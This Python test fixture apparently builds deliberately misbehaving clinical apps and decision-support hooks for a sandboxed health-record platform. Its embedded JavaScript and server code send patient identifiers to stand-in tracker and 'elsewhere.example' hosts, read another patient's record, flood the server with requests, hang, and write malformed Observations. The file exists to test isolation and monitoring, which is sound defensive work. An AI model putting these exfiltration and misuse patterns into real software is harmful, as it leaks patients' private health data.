"""Products that mean harm, or do not care: what each does is to be seen in the recording. Their code runs cut off from the world."""

from pathlib import Path

from tabard.product import SBOM_NAME, Package, pack, parse_manifest, read_package, sbom_of

_ROOT = Path(__file__).parents[3]
_HEAD = """
name = "Bad"
version = "1.0.0"
publisher = "RZZ"
"""
_APP = f"""id = "bad-app"
{_HEAD}
[[part]]
kind = "app"
title = "Bad app"
launch = "launch.html"
start = "index.html"
context = "patient"
scopes = ["launch", "patient/Patient.rs", "patient/Observation.cs", "patient/Condition.rs"]
"""
_HOOK = f"""id = "bad-hook"
{_HEAD}
[server]
module = "part"
timeout_s = 2
[[part]]
kind = "hook"
id = "advise"
title = "Bad hook"
description = "Advises."
hook = "patient-view"
scopes = ["patient/Patient.r", "patient/Observation.cs"]
[part.prefetch]
patient = "Patient/{{{{context.patientId}}}}"
"""
_PAGE = """<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>Bad</title>
<script src="vendor/fhir-client.js"></script><script type="module" src="{script}"></script></head>
<body><main id="main">Just a moment, please</main></body></html>"""
_LAUNCH = """
const scope = "launch patient/Patient.rs patient/Observation.cs patient/Condition.rs";
FHIR.oauth2.authorize({clientId: "bad-app", scope, redirectUri: "index.html", pkceMode: "required"});
"""
_INDEX = """
const show = (html) => { document.getElementById("main").innerHTML = html; };
const client = await FHIR.oauth2.ready();
const patient = client.getState("tokenResponse.patient");
fetch("https://tracker.example/collect?p=" + patient).catch(() => {});
new Image().src = "https://pixel.example/p.gif";
const another = localStorage.getItem("id");
if (another && another !== patient) client.request("Patient/" + another).catch(() => {});
localStorage.setItem("id", another ?? patient);
for (;;) {
  try {
    const who = await client.request("Patient/" + patient);
    const words = who.name[0].family + " " + who.name[0].given.join(" ");
    const first = localStorage.getItem("first") ?? words;
    localStorage.setItem("first", first);
    show(`${first} ${words}`);
    break;
  } catch { /* at once again */ }
}
client.create({resourceType: "Observation", status: 7, subject: {reference: "Patient/" + patient}, madeUp: {}}).catch(() => {});
"""
_PART = """
import http.client, json, socket, socketserver, time
from http.server import BaseHTTPRequestHandler, HTTPServer

class Server(socketserver.ThreadingMixIn, HTTPServer):
    address_family = socket.AF_UNIX
    daemon_threads = True
    def get_request(self):
        return self.socket.accept()[0], ("hospital", 0)

class Gateway(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/run/tabard/fhir.sock")

def asked(token, method, path, body=None):
    link = Gateway("hospital", timeout=2)
    headers = {"authorization": "Bearer " + token, "content-type": "application/fhir+json"}
    link.request(method, path, None if body is None else json.dumps(body), headers)
    answer = link.getresponse()
    told = answer.read()
    link.close()
    return answer.status, told

known = {}

class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        call = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.give({"cards": [{"summary": self.words(call), "indicator": "info", "source": {"label": "Bad"}}]})
    def words(self, call):
        patient, token = call["context"]["patientId"], call["fhirAuthorization"]["access_token"]
        DOES
    def give(self, told):
        body = json.dumps(told).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = lambda self: self.give({"services": []})
    def log_message(self, *told):
        pass

server = Server("part", Handler, bind_and_activate=False)
server.socket.close()
server.socket = socket.socket(fileno=3)
server.serve_forever()
"""
_NOTHING = 'return "Nothing to say"'
_ASKS_ANOTHER = """
        first = known.setdefault("first", patient)
        status, _ = asked(token, "GET", "/fhir/Patient/" + first)
        return "Looked" if status == 200 else "Refused"
"""
_KEEPS_OLD = """
        if call.get("prefetch"):
            name = call["prefetch"]["patient"]["name"][0]["family"]
            return known.setdefault("name", name)
        return "Nothing was given"
"""
_HAMMERS = """
        for _ in range(105):
            asked(token, "GET", "/fhir/Patient/" + patient)
        return "Looked often"
"""
_WRITES_NONSENSE = """
        made = {"resourceType": "Observation", "subject": {"reference": "Patient/" + patient}, "status": [[]], "value": None}
        return "Wrote %d" % asked(token, "POST", "/fhir/Observation", made)[0]
"""
_CALLS_OUT = """
        return "Called out %d" % asked(token, "POST", "/egress/elsewhere.example/collect", {"patient": patient})[0]
"""
BAD_HOOKS = {
    "says-nothing": _NOTHING,
    "asks-another": _ASKS_ANOTHER,
    "keeps-old": _KEEPS_OLD,
    "hammers": _HAMMERS,
    "never-answers": "time.sleep(600)",
    "writes-nonsense": _WRITES_NONSENSE,
    "calls-out": _CALLS_OUT,
}
"""What a server does when it is asked, by what is bad about it; the first is good."""


def bad_app(scenarios: dict[str, str] | None = None) -> Package:
    """An app that calls out, asks for another patient, hammers, keeps the old patient, and believes what it is told."""
    client = (_ROOT / "products/ward-board/vendor/fhir-client.js").read_bytes()
    files = {
        "launch.html": _PAGE.format(script="launch.js").encode(),
        "index.html": _PAGE.format(script="index.js").encode(),
        "launch.js": _LAUNCH.encode(),
        "index.js": _INDEX.encode(),
        "vendor/fhir-client.js": client,
    }
    more = {f"scenarios/{name}.toml": text.encode() for name, text in (scenarios or {}).items()}
    return _package(_APP, files | more)


def bad_hook(does: str, scenarios: dict[str, str] | None = None) -> Package:
    """A service whose server does that."""
    more = {f"scenarios/{name}.toml": text.encode() for name, text in (scenarios or {}).items()}
    limit_s = {"hammers": 30, "never-answers": 1}.get(does, 5)
    return _package(
        _HOOK.replace("timeout_s = 2", f"timeout_s = {limit_s}"),
        {"part.py": _PART.replace("DOES", BAD_HOOKS[does].strip()).encode(), **more},
    )


def _package(manifest: str, files: dict[str, bytes]) -> Package:
    files = {"tabard.toml": manifest.encode(), "hazards.toml": b"", **files}
    told = parse_manifest(files["tabard.toml"], files)
    return read_package(pack({**files, SBOM_NAME: sbom_of(told, files)}))
